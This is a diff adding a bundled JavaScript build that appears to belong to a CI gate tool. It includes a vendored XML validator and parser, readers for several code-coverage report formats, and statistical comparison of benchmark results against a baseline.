+            return getErrorObject(isValid.err.code, isValid.err.msg, getLineNumberForPosition(xmlData, i - attrStr.length + isValid.err.line));
+          }
+
+          //if the root level has been reached before ...
+          if (reachedRoot === true) {
+            return getErrorObject('InvalidXml', 'Multiple possible root nodes found.', getLineNumberForPosition(xmlData, i));
+          } else if (options.unpairedTags.indexOf(tagName) !== -1) {
+            //don't push into stack
+          } else {
+            tags.push({ tagName, tagStartPos });
+          }
+          tagFound = true;
+        }
+
+        //skip tag text value
+        //It may include comments and CDATA value
+        for (i++; i < xmlData.length; i++) {
+          if (xmlData[i] === '<') {
+            if (xmlData[i + 1] === '!') {
+              //comment or CADATA
+              i++;
+              i = readCommentAndCDATA(xmlData, i);
+              continue;
+            } else if (xmlData[i + 1] === '?') {
+              i = readPI(xmlData, ++i);
+              if (i.err) return i;
+            } else {
+              break;
+            }
+          } else if (xmlData[i] === '&') {
+            const afterAmp = validateAmpersand(xmlData, i);
+            if (afterAmp == -1)
+              return getErrorObject('InvalidChar', "char '&' is not expected.", getLineNumberForPosition(xmlData, i));
+            i = afterAmp;
+          } else {
+            if (reachedRoot === true && !isWhiteSpace(xmlData[i])) {
+              return getErrorObject('InvalidXml', "Extra text at the end", getLineNumberForPosition(xmlData, i));
+            }
+          }
+        } //end of reading tag text value
+        if (xmlData[i] === '<') {
+          i--;
+        }
+      }
+    } else {
+      if (isWhiteSpace(xmlData[i])) {
+        continue;
+      }
+      return getErrorObject('InvalidChar', "char '" + xmlData[i] + "' is not expected.", getLineNumberForPosition(xmlData, i));
+    }
+  }
+
+  if (!tagFound) {
+    return getErrorObject('InvalidXml', 'Start tag expected.', 1);
+  } else if (tags.length == 1) {
+    return getErrorObject('InvalidTag', "Unclosed tag '" + tags[0].tagName + "'.", getLineNumberForPosition(xmlData, tags[0].tagStartPos));
+  } else if (tags.length > 0) {
+    return getErrorObject('InvalidXml', "Invalid '" +
+      JSON.stringify(tags.map(t => t.tagName), null, 4).replace(/\r?\n/g, '') +
+      "' found.", { line: 1, col: 1 });
+  }
+
+  return true;
+};
+
+function isWhiteSpace(char) {
+  return char === ' ' || char === '\t' || char === '\n' || char === '\r';
+}
+/**
+ * Read Processing insstructions and skip
+ * @param {*} xmlData
+ * @param {*} i
+ */
+function readPI(xmlData, i) {
+  const start = i;
+  for (; i < xmlData.length; i++) {
+    if (xmlData[i] == '?' || xmlData[i] == ' ') {
+      //tagname
+      const tagname = xmlData.substr(start, i - start);
+      if (i > 5 && tagname === 'xml') {
+        return getErrorObject('InvalidXml', 'XML declaration allowed only at the start of the document.', getLineNumberForPosition(xmlData, i));
+      } else if (xmlData[i] == '?' && xmlData[i + 1] == '>') {
+        //check if valid attribut string
+        i++;
+        break;
+      } else {
+        continue;
+      }
+    }
+  }
+  return i;
+}
+
+function readCommentAndCDATA(xmlData, i) {
+  if (xmlData.length > i + 5 && xmlData[i + 1] === '-' && xmlData[i + 2] === '-') {
+    //comment
+    for (i += 3; i < xmlData.length; i++) {
+      if (xmlData[i] === '-' && xmlData[i + 1] === '-' && xmlData[i + 2] === '>') {
+        i += 2;
+        break;
+      }
+    }
+  } else if (
+    xmlData.length > i + 8 &&
+    xmlData[i + 1] === 'D' &&
+    xmlData[i + 2] === 'O' &&
+    xmlData[i + 3] === 'C' &&
+    xmlData[i + 4] === 'T' &&
+    xmlData[i + 5] === 'Y' &&
+    xmlData[i + 6] === 'P' &&
+    xmlData[i + 7] === 'E'
+  ) {
+    let angleBracketsCount = 1;
+    for (i += 8; i < xmlData.length; i++) {
+      if (xmlData[i] === '<') {
+        angleBracketsCount++;
+      } else if (xmlData[i] === '>') {
+        angleBracketsCount--;
+        if (angleBracketsCount === 0) {
+          break;
+        }
+      }
+    }
+  } else if (
+    xmlData.length > i + 9 &&
+    xmlData[i + 1] === '[' &&
+    xmlData[i + 2] === 'C' &&
+    xmlData[i + 3] === 'D' &&
+    xmlData[i + 4] === 'A' &&
+    xmlData[i + 5] === 'T' &&
+    xmlData[i + 6] === 'A' &&
+    xmlData[i + 7] === '['
+  ) {
+    for (i += 8; i < xmlData.length; i++) {
+      if (xmlData[i] === ']' && xmlData[i + 1] === ']' && xmlData[i + 2] === '>') {
+        i += 2;
+        break;
+      }
+    }
+  }
+
+  return i;
+}
+
+const doubleQuote = '"';
+const singleQuote = "'";
+
+/**
+ * Keep reading xmlData until '<' is found outside the attribute value.
+ * @param {string} xmlData
+ * @param {number} i
+ */
+function readAttributeStr(xmlData, i) {
+  let attrStr = '';
+  let startChar = '';
+  let tagClosed = false;
+  for (; i < xmlData.length; i++) {
+    if (xmlData[i] === doubleQuote || xmlData[i] === singleQuote) {
+      if (startChar === '') {
+        startChar = xmlData[i];
+      } else if (startChar !== xmlData[i]) {
+        //if vaue is enclosed with double quote then single quotes are allowed inside the value and vice versa
+      } else {
+        startChar = '';
+      }
+    } else if (xmlData[i] === '>') {
+      if (startChar === '') {
+        tagClosed = true;
+        break;
+      }
+    }
+    attrStr += xmlData[i];
+  }
+  if (startChar !== '') {
+    return false;
+  }
+
+  return {
+    value: attrStr,
+    index: i,
+    tagClosed: tagClosed
+  };
+}
+
+/**
+ * Walk `attrStr` once, left to right, splitting it into attribute tokens.
+ *
+ * This replaces a regex that used to do the same job
+ * (`(\s*)([^\s=]+)(\s*=)?(\s*(['"])(([\s\S])*?)\5)?`). That regex led with an
+ * optional whitespace group followed by a required "non-whitespace" group.
+ * On a long run of whitespace that never resolves into an attribute name
+ * (e.g. a tag with thousands of trailing spaces before `>`), the engine
+ * backtracks the whitespace group one character at a time before giving up
+ * and moving to the next starting position — one full backtrack per
+ * position, which is quadratic in the length of the run.
+ *
+ * The scan is forward-only: the cursor never moves backwards, so each
+ * character is visited a constant number of times and the cost is linear
+ * in the length of the string.
+ *
+ * Each returned token mirrors the shape the old regex match array had, so
+ * the validation logic below (which reads token[1]..token[6]) didn't need
+ * to change:
+ *   token.startIndex - where this token begins in attrStr
+ *   token[1]          - leading whitespace before the name
+ *   token[2]          - the attribute name
+ *   token[3]          - whitespace + '=' if present, else undefined
+ *   token[4]          - marker (any defined value) if a quoted value was found
+ *   token[5]          - the quote character used ('"' or "'")
+ *   token[6]          - the value's text, without the surrounding quotes
+ *
+ * A malformed leading character (e.g. a stray '=' with no name before it)
+ * is simply skipped over, one character at a time — the same outcome the
+ * old regex produced by failing to match at that position and retrying at
+ * the next one.
+ */
+function scanAttributeTokens(attrStr) {
+  const tokens = [];
+  const len = attrStr.length;
+  let i = 0;
+
+  while (i < len) {
+    const tokenStart = i;
+
+    // Leading whitespace before the name.
+    while (i < len && isWhiteSpace(attrStr[i])) i++;
+    if (i >= len) break; // trailing whitespace only — nothing left to read
+
+    if (attrStr[i] === '=') {
+      // No name before this '=' — not a valid attribute start. Move past
+      i++;
+      continue;
+    }
+
+    const leadingWs = attrStr.slice(tokenStart, i);
+
+    // Attribute name — everything up to the next whitespace or '='.
+    const nameStart = i;
+    while (i < len && !isWhiteSpace(attrStr[i]) && attrStr[i] !== '=') i++;
+    const name = attrStr.slice(nameStart, i);
+
+    // Optional whitespace + '='.
+    let equalsGroup; // whitespace + '=' text, or undefined if absent
+    let j = i;
+    while (j < len && isWhiteSpace(attrStr[j])) j++;
+    if (j < len && attrStr[j] === '=') {
+      equalsGroup = attrStr.slice(i, j + 1);
+      i = j + 1;
+    }
+
+    // Optional whitespace + quoted value.
+    let quoteChar;
+    let value;
+    let k = i;
+    while (k < len && isWhiteSpace(attrStr[k])) k++;
+    if (k < len && (attrStr[k] === '"' || attrStr[k] === "'")) {
+      const valueStart = k + 1;
+      const closeIdx = attrStr.indexOf(attrStr[k], valueStart);
+      if (closeIdx !== -1) {
+        quoteChar = attrStr[k];
+        value = attrStr.slice(valueStart, closeIdx);
+        i = closeIdx + 1;
+      }
+      // No closing quote found anywhere in the rest of the string — leave
+      // quoteChar/value undefined, same as the old regex's group failing
+      // to match a backreference-less run.
+    }
+
+    const token = { startIndex: tokenStart };
+    token[1] = leadingWs;
+    token[2] = name;
+    token[3] = equalsGroup;
+    token[4] = quoteChar !== undefined ? true : undefined;
+    token[5] = quoteChar;
+    token[6] = value;
+    tokens.push(token);
+  }
+
+  return tokens;
+}
+
+//attr, ="sd", a="amit's", a="sd"b="saf", ab  cd=""
+
+function validateAttributeString(attrStr, options) {
+  //console.log("start:"+attrStr+":end");
+
+  //if(attrStr.trim().length === 0) return true; //empty string
+
+  const matches = scanAttributeTokens(attrStr);
+  const attrNames = {};
+
+  for (let i = 0; i < matches.length; i++) {
+    if (matches[i][1].length === 0) {
+      //nospace before attribute name: a="sd"b="saf"
+      return getErrorObject('InvalidAttr', "Attribute '" + matches[i][2] + "' has no space in starting.", getPositionFromMatch(matches[i]))
+    } else if (matches[i][3] !== undefined && matches[i][4] === undefined) {
+      return getErrorObject('InvalidAttr', "Attribute '" + matches[i][2] + "' is without value.", getPositionFromMatch(matches[i]));
+    } else if (matches[i][3] === undefined && !options.allowBooleanAttributes) {
+      //independent attribute: ab
+      return getErrorObject('InvalidAttr', "boolean attribute '" + matches[i][2] + "' is not allowed.", getPositionFromMatch(matches[i]));
+    }
+    /* else if(matches[i][6] === undefined){//attribute without value: ab=
+                    return { err: { code:"InvalidAttr",msg:"attribute " + matches[i][2] + " has no value assigned."}};
+                } */
+    const attrName = matches[i][2];
+    if (!validateAttrName(attrName)) {
+      return getErrorObject('InvalidAttr', "Attribute '" + attrName + "' is an invalid name.", getPositionFromMatch(matches[i]));
+    }
+    if (!Object.prototype.hasOwnProperty.call(attrNames, attrName)) {
+      //check for duplicate attribute.
+      attrNames[attrName] = 1;
+    } else {
+      return getErrorObject('InvalidAttr', "Attribute '" + attrName + "' is repeated.", getPositionFromMatch(matches[i]));
+    }
+  }
+
+  return true;
+}
+
+function validateNumberAmpersand(xmlData, i) {
+  let re = /\d/;
+  if (xmlData[i] === 'x') {
+    i++;
+    re = /[\da-fA-F]/;
+  }
+  for (; i < xmlData.length; i++) {
+    if (xmlData[i] === ';')
+      return i;
+    if (!xmlData[i].match(re))
+      break;
+  }
+  return -1;
+}
+
+function validateAmpersand(xmlData, i) {
+  // https://www.w3.org/TR/xml/#dt-charref
+  i++;
+  if (xmlData[i] === ';')
+    return -1;
+  if (xmlData[i] === '#') {
+    i++;
+    return validateNumberAmpersand(xmlData, i);
+  }
+  let count = 0;
+  for (; i < xmlData.length; i++, count++) {
+    if (xmlData[i].match(/\w/) && count < 20)
+      continue;
+    if (xmlData[i] === ';')
+      break;
+    return -1;
+  }
+  return i;
+}
+
+function getErrorObject(code, message, lineNumber) {
+  return {
+    err: {
+      code: code,
+      msg: message,
+      line: lineNumber.line || lineNumber,
+      col: lineNumber.col,
+    },
+  };
+}
+
+function validateAttrName(attrName) {
+  return isName(attrName);
+}
+
+// const startsWithXML = /^xml/i;
+
+function validateTagName(tagname) {
+  return isName(tagname) /* && !tagname.match(startsWithXML) */;
+}
+
+//this function returns the line number for the character at the given index
+function getLineNumberForPosition(xmlData, index) {
+  const lines = xmlData.substring(0, index).split(/\r?\n/);
+  return {
+    line: lines.length,
+
+    // column number is last line's length + 1, because column numbering starts at 1:
+    col: lines[lines.length - 1].length + 1
+  };
+}
+
+//this function returns the position of the first character of match within attrStr
+function getPositionFromMatch(match) {
+  return match.startIndex + match[1].length;
+}
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/xmlparser/XMLParser.js
+/* global Uint8Array */
+
+
+
+
+
+
+class XMLParser {
+
+    constructor(options) {
+        this.externalEntities = {};
+        this.options = buildOptions(options);
+
+    }
+    /**
+     * Parse XML dats to JS object 
+     * @param {string|Uint8Array} xmlData 
+     * @param {boolean|Object} validationOption 
+     */
+    parse(xmlData, validationOption) {
+        if (typeof xmlData !== "string" && xmlData.toString) {
+            if (xmlData instanceof Uint8Array &&
+                !(typeof Buffer !== "undefined" && Buffer.isBuffer(xmlData))) {
+                xmlData = new TextDecoder("utf-8", { ignoreBOM: true }).decode(xmlData);
+            } else {
+                xmlData = xmlData.toString();
+            }
+        } else if (typeof xmlData !== "string") {
+            throw new Error("XML data is accepted in String or Bytes[] form.")
+        }
+
+        if (validationOption) {
+            if (validationOption === true) validationOption = {}; //validate with default options
+
+            const result = validator_validate(xmlData, validationOption);
+            if (result !== true) {
+                throw Error(`${result.err.msg}:${result.err.line}:${result.err.col}`)
+            }
+        }
+        const orderedObjParser = new OrderedObjParser(this.options, this.externalEntities);
+        // orderedObjParser.entityDecoder.setExternalEntities(this.externalEntities);
+        const orderedResult = orderedObjParser.parseXml(xmlData);
+        if (this.options.preserveOrder || orderedResult === undefined) return orderedResult;
+        else return prettify(orderedResult, this.options, orderedObjParser.matcher, orderedObjParser.readonlyMatcher);
+    }
+
+    /**
+     * Add Entity which is not by default supported by this library
+     * @param {string} key 
+     * @param {string} value 
+     */
+    addEntity(key, value) {
+        if (value.indexOf("&") !== -1) {
+            throw new Error("Entity value can't have '&'")
+        } else if (key.indexOf("&") !== -1 || key.indexOf(";") !== -1) {
+            throw new Error("An entity must be set without '&' and ';'. Eg. use '#xD' for '&#xD;'")
+        } else if (value === "&") {
+            throw new Error("An entity with value '&' is not permitted");
+        } else {
+            this.externalEntities[key] = value;
+        }
+    }
+
+    /**
+     * Returns a Symbol that can be used to access the metadata
+     * property on a node.
+     * 
+     * If Symbol is not available in the environment, an ordinary property is used
+     * and the name of the property is here returned.
+     * 
+     * The XMLMetaData property is only present when `captureMetaData`
+     * is true in the options.
+     */
+    static getMetaDataSymbol() {
+        return XmlNode.getMetaDataSymbol();
+    }
+}
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/fxp.js
+
+
+
+
+
+
+const XMLValidator = {
+  validate: validator_validate
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/coverage/xml.ts
+
+
+const parser = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@', parseAttributeValue: false, processEntities: true, ignoreDeclaration: true });
+/** Parses XML into plain objects (attributes as `@name`); a malformed file is one line naming it, the line and the XML error. */
+function xml_parseXml(text, name, format) {
+    // The parser alone accepts mismatched tags silently; the validator (deprecated in favour of a separate
+    // package not yet published as stable) is what reports them with a line number.
+    // eslint-disable-next-line @typescript-eslint/no-deprecated -- see above
+    const valid = XMLValidator.validate(text);
+    if (valid !== true)
+        throw new ConfigurationError(`${name}:${valid.err.line}: not well-formed XML (${valid.err.msg}); cannot read it as ${format}.`);
+    return parser.parse(text);
+}
+/** Child elements as an array whether the XML had none, one or many. */
+function children(node, key) {
+    if (!node || typeof node !== 'object')
+        return [];
+    const value = node[key];
+    if (value === undefined || value === '')
+        return [];
+    return (Array.isArray(value) ? value : [value]).filter((v) => typeof v === 'object' && v !== null);
+}
+function attr(node, name) {
+    const value = node[`@${name}`];
+    return typeof value === 'string' ? value : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/coverage/xml-formats.ts
+
+
+
+/** Cobertura (coverage-04.dtd): coverage/sources/source, packages/package/classes/class[@filename]/lines/line[@number,@hits]. */
+function readCobertura(text, name) {
+    const root = children(xml_parseXml(text, name, 'Cobertura XML'), 'coverage')[0];
+    if (!root)
+        throw new ConfigurationError(`${name}: no <coverage> root element; not a Cobertura report.`);
+    const byPath = new Map();
+    for (const pkg of children(children(root, 'packages')[0], 'package')) {
+        for (const cls of children(children(pkg, 'classes')[0], 'class')) {
+            const path = attr(cls, 'filename');
+            if (!path)
+                continue;
+            const file = byPath.get(path) ?? { path, lines: [] };
+            byPath.set(path, file);
+            for (const line of children(children(cls, 'lines')[0], 'line'))
+                hit(file.lines, Number(attr(line, 'number')), Number(attr(line, 'hits') ?? 0));
+        }
+    }
+    const sources = children(root, 'sources')[0];
+    const roots = sources ? [].concat(sources.source ?? []).filter((s) => typeof s === 'string') : [];
+    return { format: 'cobertura', files: [...byPath.values()], sourceRoots: roots };
+}
+/** Clover (clover.xsd): coverage/project/(package/)file[@path|@name]/line[@num,@type,@count]; stmt and cond lines count. */
+function readClover(text, name) {
+    const root = children(xml_parseXml(text, name, 'Clover XML'), 'coverage')[0];
+    const project = children(root, 'project')[0];
+    if (!project)
+        throw new ConfigurationError(`${name}: no <coverage><project> element; not a Clover report.`);
+    const files = [];
+    const fileNodes = [...children(project, 'file'), ...children(project, 'package').flatMap((p) => children(p, 'file'))];
+    for (const f of fileNodes) {
+        const path = attr(f, 'path') ?? attr(f, 'name');
+        if (!path)
+            continue;
+        const file = { path, lines: [] };
+        for (const line of children(f, 'line')) {
+            const type = attr(line, 'type');
+            if (type === 'method')
+                continue; // a method entry repeats its first statement's line
+            const count = attr(line, 'count') ?? String(Number(attr(line, 'truecount') ?? 0) + Number(attr(line, 'falsecount') ?? 0));
+            hit(file.lines, Number(attr(line, 'num')), Number(count));
+        }
+        files.push(file);
+    }
+    return { format: 'clover', files };
+}
+/** JaCoCo (report.dtd): report/package[@name]/sourcefile[@name]/line[@nr,@mi,@ci]; covered when ci > 0. */
+function readJacoco(text, name) {
+    const root = children(xml_parseXml(text, name, 'JaCoCo XML'), 'report')[0];
+    if (!root)
+        throw new ConfigurationError(`${name}: no <report> root element; not a JaCoCo report.`);
+    const packages = [...children(root, 'package'), ...children(root, 'group').flatMap(function all(g) {
+            return [...children(g, 'package'), ...children(g, 'group').flatMap(all)];
+        })];
+    const files = [];
+    for (const pkg of packages) {
+        const dir = attr(pkg, 'name') ?? '';
+        for (const src of children(pkg, 'sourcefile')) {
+            const file = { path: dir ? `${dir}/${attr(src, 'name') ?? ''}` : (attr(src, 'name') ?? ''), lines: [] };
+            for (const line of children(src, 'line'))
+                hit(file.lines, Number(attr(line, 'nr')), Number(attr(line, 'ci') ?? 0));
+            files.push(file);
+        }
+    }
+    return { format: 'jacoco', files };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/coverage/read.ts
+
+
+
+
+
+const FORMATS = 'lcov, Cobertura XML, Clover XML, JaCoCo XML, istanbul coverage-final.json / coverage-summary.json or a Go cover profile';
+/** What the content looks like, from its first bytes and root element; undefined when none fits. */
+function detectCoverageFormat(text) {
+    const head = text.slice(0, 4096).replace(/^\uFEFF/, '');
+    const start = head.trimStart();
+    if (/^mode: (set|count|atomic)\b/.test(start))
+        return 'go-cover';
+    if (start.startsWith('{')) {
+        if (/"total"\s*:\s*\{\s*"lines"/.test(head))
+            return 'istanbul-summary';
+        return 'istanbul-final';
+    }
+    if (start.startsWith('<')) {
+        // The root element decides: <report> (JaCoCo), <coverage> with <project> (Clover) or <packages>/<sources> (Cobertura).
+        if (/<report[\s>]/.test(head) || /jacoco/i.test(head.slice(0, 300)))
+            return 'jacoco';
+        if (/<coverage[^>]*\bgenerated=/.test(head) || /<project[\s>]/.test(head))
+            return 'clover';
+        if (/<coverage[\s>]/.test(head))
+            return 'cobertura';
+        return undefined;
+    }
+    if (/^(TN:|SF:)/m.test(head))
+        return 'lcov';
+    return undefined;
+}
+/** Reads a coverage report of any supported format; the error names the file and what it could not read. */
+function readCoverage(text, name) {
+    const format = detectCoverageFormat(text);
+    switch (format) {
+        case 'lcov':
+            return readLcov(text, name);
+        case 'go-cover':
+            return readGoCover(text, name);
+        case 'cobertura':
+            return readCobertura(text, name);
+        case 'clover':
+            return readClover(text, name);
+        case 'jacoco':
+            return readJacoco(text, name);
+        case 'istanbul-final':
+        case 'istanbul-summary': {
+            let data;
+            try {
+                data = JSON.parse(text);
+            }
+            catch (error) {
+                throw new ConfigurationError(`${name}: not valid JSON (${error.message}); cannot read it as istanbul coverage.`);
+            }
+            if (!data || typeof data !== 'object' || Array.isArray(data))
+                throw new ConfigurationError(`${name}: expected a JSON object of files; not istanbul coverage.`);
+            return format === 'istanbul-summary' ? readIstanbulSummary(data, name) : readIstanbulFinal(data, name);
+        }
+        default:
+            throw new ConfigurationError(`${name}: unknown coverage format; expected ${FORMATS}.`);
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/bench/types.ts
+function types_mean(xs) {
+    let s = 0;
+    for (const x of xs)
+        s += x;
+    return s / xs.length;
+}
+function stddev(xs) {
+    if (xs.length < 2)
+        return 0;
+    const m = types_mean(xs);
+    let s = 0;
+    for (const x of xs)
+        s += (x - m) ** 2;
+    return Math.sqrt(s / (xs.length - 1));
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/bench/compare.ts
+
+/** Ratio-of-means bootstrap: resample both sides with replacement; the percentile interval of the worse-ratio. */
+function bootstrap(head, base, worse, s, random) {
+    // Bound the work on tools that write thousands of samples: the interval needs ~1000 resamples, not more.
+    const rounds = Math.max(500, Math.min(s.resamples, Math.floor(4_000_000 / (head.length + base.length))));
+    const ratios = new Float64Array(rounds);
+    const resampledMean = (xs) => {
+        let sum = 0;
+        for (let i = 0; i < xs.length; i++)
+            sum += xs[Math.floor(random() * xs.length)];
+        return sum / xs.length;
+    };
+    for (let r = 0; r < rounds; r++)
+        ratios[r] = worse(resampledMean(head), resampledMean(base));
+    ratios.sort();
+    const alpha = (1 - s.confidence) / 2;
+    return [ratios[Math.floor(alpha * (rounds - 1))], ratios[Math.ceil((1 - alpha) * (rounds - 1))]];
+}
+/** z of a two-sided interval (Abramowitz & Stegun 26.2.23, error < 4.5e-4). */
+function zOf(confidence) {
+    const p = 1 - (1 - confidence) / 2;
+    const q = Math.sqrt(-2 * Math.log(1 - p));
+    return q - (2.515517 + 0.802853 * q + 0.010328 * q * q) / (1 + 1.432788 * q + 0.189269 * q * q + 0.001308 * q * q * q);
+}
+function spreadOf(b) {
+    if (b.samples && b.samples.length > 1)
+        return { m: types_mean(b.samples), sd: stddev(b.samples), n: b.samples.length };
+    if (b.spread && b.spread.n > 1)
+        return { m: b.value, sd: b.spread.stddev, n: b.spread.n };
+    return undefined;
+}
+/** One benchmark, head against base: the worse-ratio, its interval, and the verdict. */
+function compareBenchmark(head, base, settings, random) {
+    const common = { name: head.name, unit: head.unit, better: head.better, head: head.value };
+    if (!base)
+        return { ...common, base: undefined, ratio: undefined, interval: undefined, method: undefined, judgement: 'new', regressed: false };
+    const worse = head.better === 'smaller' ? (h, b) => h / b : (h, b) => b / h;
+    const ratio = worse(head.value, base.value);
+    const limit = 1 + settings.tolerance / 100;
+    let interval;
+    let method;
+    if (head.samples && head.samples.length > 1 && base.samples && base.samples.length > 1) {
+        interval = bootstrap(head.samples, base.samples, worse, settings, random);
+        method = 'bootstrap';
+    }
+    else {
+        const h = spreadOf(head);
+        const b = spreadOf(base);
+        if (h || b) {
+            // Delta method for a ratio of independent means: relative standard errors add in quadrature.
+            const rel = Math.sqrt((h ? (h.sd / h.m) ** 2 / h.n : 0) + (b ? (b.sd / b.m) ** 2 / b.n : 0));
+            const z = zOf(settings.confidence);
+            interval = [ratio * (1 - z * rel), ratio * (1 + z * rel)];
+            method = 'normal';
+        }
+        else
+            method = 'no spread given';
+    }
+    let judgement;
+    if (!interval)
+        judgement = ratio > limit ? 'regressed' : ratio < 1 / limit ? 'improved' : 'ok';
+    // With a spread: the whole interval must lie beyond the tolerance. A change that merely measures above
+    // it while the interval reaches below it could be noise, and a required check must not block on noise.
+    else if (interval[0] > limit)
+        judgement = 'regressed';
+    else if (interval[1] > limit && ratio > 1)
+        judgement = 'noisy';
+    else if (interval[1] < 1 / limit)
+        judgement = 'improved';
+    else
+        judgement = 'ok';
+    return { ...common, base: base.value, ratio, interval, method, judgement, regressed: judgement === 'regressed' };
+}
+/** Every head benchmark against the base's of the same name; no base at all is a warning, never a pass. */
+function compareBenchmarks(head, base, settings, random) {
+    const byName = new Map((base ?? []).map((b) => [b.name, b]));
+    const comparisons = head.map((h) => compareBenchmark(h, byName.get(h.name), settings, random));
+    const headNames = new Set(head.map((h) => h.name));
+    const missing = (base ?? []).map((b) => b.name).filter((n) => !headNames.has(n));
+    const notes = [];
+    const noisy = comparisons.filter((c) => c.judgement === 'noisy').map((c) => c.name);
+    if (noisy.length)
+        notes.push(`too noisy to judge against a ${settings.tolerance}% tolerance: ${noisy.join(', ')} (more samples or a quieter runner narrow the interval).`);
+    const bare = comparisons.filter((c) => c.method === 'no spread given').map((c) => c.name);
+    if (bare.length)
+        notes.push(`no spread given, judged by the threshold alone: ${bare.join(', ')}.`);
+    if (!base)
+        return { state: 'warning', comparisons, missing, notes: ['no base results: the benchmarks were not compared (not a pass).', ...notes] };
+    return { state: comparisons.some((c) => c.regressed) ? 'failed' : 'passed', comparisons, missing, notes };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/bench/readers-js.ts
+
+const isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
+const readers_js_num = (v) => (typeof v === 'number' && Number.isFinite(v) ? v : undefined);
+const nums = (v) => (Array.isArray(v) && v.length && v.every((x) => typeof x === 'number') ? v : undefined);
+function fromStats(name, unit, value, samples, sd, n) {
+    return {
+        name,
+        unit,
+        better: 'smaller',
+        value,
+        ...(samples && samples.length > 1 ? { samples } : {}),
+        ...(!samples?.length && sd !== undefined && n !== undefined && n > 1 ? { spread: { stddev: sd, n } } : {}),
+    };
+}
+/**
+ * tinybench: `bench.tasks.map(({ name, result }) => ({ name, result }))` serialised. v2 results carry
+ * `mean`/`sd`/`samples` (ms); v3+ nest them under `result.latency`. Source: tinybench README and src/task.ts.
+ */
+function readTinybench(data, name) {
+    const benchmarks = data.map((t, i) => {
+        if (!isObj(t) || typeof t.name !== 'string' || !isObj(t.result))
+            throw new ConfigurationError(`${name}: task ${i} has no name/result; not tinybench task results.`);
+        const r = t.result;
+        const latency = isObj(r.latency) ? r.latency : r;
+        const value = readers_js_num(latency.mean);
+        if (value === undefined)
+            throw new ConfigurationError(`${name}: task "${t.name}" has no result mean (did it error?).`);
+        return fromStats(t.name, 'ms', value, nums(latency.samples), readers_js_num(latency.sd), readers_js_num(latency.samplesCount) ?? nums(latency.samples)?.length);
+    });
+    return { format: 'tinybench', benchmarks };
+}
+/** `vitest bench --outputJson`: files[].groups[].benchmarks[] with mean/sd/sampleCount in ms (samples when kept). */
+function readVitest(data, name) {
+    const benchmarks = [];
+    for (const file of Array.isArray(data.files) ? data.files : []) {
+        for (const group of isObj(file) && Array.isArray(file.groups) ? file.groups : []) {
+            for (const b of isObj(group) && Array.isArray(group.benchmarks) ? group.benchmarks : []) {
+                if (!isObj(b) || typeof b.name !== 'string' || readers_js_num(b.mean) === undefined)
+                    continue;
+                const full = isObj(group) && typeof group.fullName === 'string' ? `${group.fullName} > ${b.name}` : b.name;
+                benchmarks.push(fromStats(full, 'ms', readers_js_num(b.mean), nums(b.samples), readers_js_num(b.sd), readers_js_num(b.sampleCount)));
+            }
+        }
+    }
+    if (!benchmarks.length)
+        throw new ConfigurationError(`${name}: no files[].groups[].benchmarks[] with a mean; not vitest bench --outputJson output.`);
+    return { format: 'vitest', benchmarks };
+}
+/** Benchmark.js objects serialised (JSON.stringify of each Benchmark): `stats.sample` in seconds. */
+function readBenchmarkJsJson(data, name) {
+    const benchmarks = data.map((b, i) => {
+        if (!isObj(b) || !isObj(b.stats))
+            throw new ConfigurationError(`${name}: entry ${i} has no stats; not Benchmark.js results.`);
+        const label = typeof b.name === 'string' ? b.name : typeof b.id === 'number' ? `#${b.id}` : `#${i}`;
+        return fromStats(label, 's', readers_js_num(b.stats.mean) ?? 0, nums(b.stats.sample), readers_js_num(b.stats.deviation), nums(b.stats.sample)?.length);
+    });
+    return { format: 'benchmarkjs', benchmarks };
+}
+/** Student's t at 0.975 for `df` degrees of freedom (Cornish–Fisher expansion around z = 1.96; within 1 % for df ≥ 3). */
+function t975(df) {
+    const z = 1.959964;
+    if (df < 1)
+        return z;
+    return z + (z ** 3 + z) / (4 * df) + (5 * z ** 5 + 16 * z ** 3 + 3 * z) / (96 * df * df);
+}
+// "fib(10) x 1,431,759 ops/sec ±0.74% (93 runs sampled)" — Benchmark.js's String(bench).
+const BENCHMARKJS_LINE = /^(.+?) x ([\d,]+(?:\.\d+)?) ops\/sec (?:±|\+-|\\xb1)\s*([\d.]+)% \((\d+) runs? sampled\)/;
+/** Benchmark.js text (`String(benchmark)` per cycle): ops/sec, bigger is better; ± is the relative margin of error (95 %). */
+function readBenchmarkJsText(text) {
+    const benchmarks = [];
+    for (const line of text.split('\n')) {
+        const m = BENCHMARKJS_LINE.exec(line.trim());
+        if (!m)
+            continue;
+        const [, label, hz, rme, runs] = m;
+        const value = Number(hz.replace(/,/g, ''));
+        const n = Number(runs);
+        // rme = t(0.975, n-1) · sem / mean · 100 (Benchmark.js stats), so sd = rme/100 · mean · √n / t.
+        const sd = ((Number(rme) / 100) * value * Math.sqrt(n)) / t975(n - 1);
+        benchmarks.push({ name: label, unit: 'ops/s', better: 'bigger', value, ...(n > 1 ? { spread: { stddev: sd, n } } : {}) });
+    }
+    return benchmarks.length ? { format: 'benchmarkjs', benchmarks } : undefined;
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/bench/readers-native.ts
+
+
+const readers_native_isObj = (v) => typeof v === 'object' && v !== null && !Array.isArray(v);
+const readers_native_num = (v) => (typeof v === 'number' && Number.isFinite(v) ? v : undefined);
+const readers_native_nums = (v) => (Array.isArray(v) && v.length && v.every((x) => typeof x === 'number') ? v : undefined);
+const readers_native_str = (v, fallback) => (typeof v === 'string' ? v : typeof v === 'number' ? String(v) : fallback);
+const list = (v) => (Array.isArray(v) ? v.filter(readers_native_isObj) : []);
+function withSpread(b, samples, sd, n) {
+    if (samples && samples.length > 1)
+        return { ...b, samples };
+    if (sd !== undefined && n !== undefined && n > 1)
+        return { ...b, spread: { stddev: sd, n } };
+    return b;
+}
+/** Fails with one line naming the file when a reader found no benchmark. */
+function some(format, benchmarks, name, what) {
+    if (!benchmarks.length)
+        throw new ConfigurationError(`${name}: ${what}; cannot read it as ${format} output.`);
+    return { format, benchmarks };
+}
